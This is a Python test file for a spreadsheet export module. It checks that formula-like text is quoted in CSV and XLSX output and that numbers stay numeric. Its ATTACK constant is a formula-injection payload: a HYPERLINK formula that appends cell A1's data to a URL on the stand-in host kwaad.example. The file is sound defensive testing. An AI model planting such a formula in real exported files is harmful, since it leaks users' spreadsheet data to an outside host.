"""Exported cells: text a spreadsheet would run as a formula stays text, numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from veerkracht.core.spreadsheets import csv_text, xlsx_append

ATTACK = '=HYPERLINK("https://kwaad.example/?"&A1;"Klik")'


@pytest.mark.parametrize("text", [ATTACK, "+31 6 1234", "-2+3", "@SUM(A1)", "\tTab", "\rCR"])
def test_formula_like_text_gets_a_quote_in_csv(text: str):
    [row] = list(csv.reader(io.StringIO(csv_text([[text]])), delimiter=";"))
    assert row == ["'" + text]


def test_numbers_stay_numbers_also_negative_ones():
    [row] = list(csv.reader(io.StringIO(csv_text([[-3, Decimal("-1.50"), "Jan", "a=b"]])), delimiter=";"))
    assert row == ["-3", "-1,50", "Jan", "a=b"]


def test_formula_like_text_is_a_quoted_string_in_xlsx_and_numbers_are_numbers():
    book = Workbook()
    xlsx_append(book.worksheets[0], [ATTACK, "-min", -3, Decimal("-1.5"), "Jan"])
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())
    assert [cell.value for cell in cells] == [ATTACK, "-min", -3, -1.5, "Jan"]
    assert [cell.data_type for cell in cells] == ["s", "s", "n", "n", "s"]
    assert [cell.quotePrefix for cell in cells[:2]] == [True, True]
